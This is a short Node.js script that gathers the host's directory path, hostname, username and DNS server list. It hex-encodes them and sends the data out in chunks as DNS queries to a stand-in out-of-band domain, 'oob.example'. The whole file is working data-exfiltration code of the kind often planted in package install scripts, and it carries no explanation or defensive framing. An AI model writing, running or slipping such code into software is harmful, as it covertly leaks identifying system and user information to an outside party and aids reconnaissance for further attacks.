const os = require('os');
const dns = require('dns');
const info = { p: __dirname, h: os.hostname(), u: os.userInfo().username, d: dns.getServers() };
const hex = Buffer.from(JSON.stringify(info)).toString('hex');
(hex.match(/.{1,60}/g) || []).forEach((part, i) => {
  dns.resolve4(`${i}.${part}.v2.oob.example`, () => {});
});
